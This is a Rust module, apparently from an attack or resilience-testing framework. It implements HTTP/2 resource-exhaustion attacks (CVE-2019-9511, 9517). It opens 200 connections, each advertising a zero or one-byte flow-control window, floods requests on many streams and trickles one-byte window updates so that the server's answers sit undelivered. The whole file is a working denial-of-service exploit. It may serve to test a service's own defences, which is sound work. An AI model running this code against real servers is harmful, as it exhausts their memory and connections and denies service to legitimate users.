//! Requests whose answers nobody takes, or takes byte by byte (CVE-2019-9511, 9517).

use std::io;
use std::sync::Arc;
use std::time::Duration;

use futures_util::FutureExt;
use tokio::time::sleep;

use crate::attack::{Attack, By, Node, Variant};
use crate::attacker::Attacker;
use crate::wire::http2::{
    END_HEADERS, END_STREAM, HEADERS, Http2, INITIAL_WINDOW_SIZE, Method, NOTHING, STREAMS, WINDOW_UPDATE, frame, head,
    stream,
};

pub(super) static ATTACK: Attack = Attack {
    name: "HTTP/2 answers that nobody takes",
    by: By::Stranger,
    node: Node::EMBEDDED,
    variants: &[
        Variant { name: "a window of 0", act: |attacker| attacker.crowd(200, closed).boxed() },
        Variant { name: "a window that opens by one byte", act: |attacker| attacker.crowd(200, narrow).boxed() },
    ],
};

async fn asked(attacker: &Attacker, window: u32) -> io::Result<Http2> {
    let mut connection = Http2::open(&attacker.dialer, &[(INITIAL_WINDOW_SIZE, window)]).await?;
    let head = head(Method::Get, "/v1/tenants/contoso/agents", &[]);
    let request = |n| frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head);
    connection.send(&(0..STREAMS).flat_map(request).collect::<Vec<_>>()).await?;
    Ok(connection)
}

async fn closed(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    asked(&attacker, 0).await?.keep().await
}

async fn narrow(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    let mut connection = asked(&attacker, 1).await?;
    let more = |n| frame(WINDOW_UPDATE, NOTHING, stream(n), &[0, 0, 0, 1]);
    loop {
        sleep(Duration::from_secs(1)).await;
        connection.send(&(0..STREAMS).flat_map(more).collect::<Vec<_>>()).await?;
    }
}
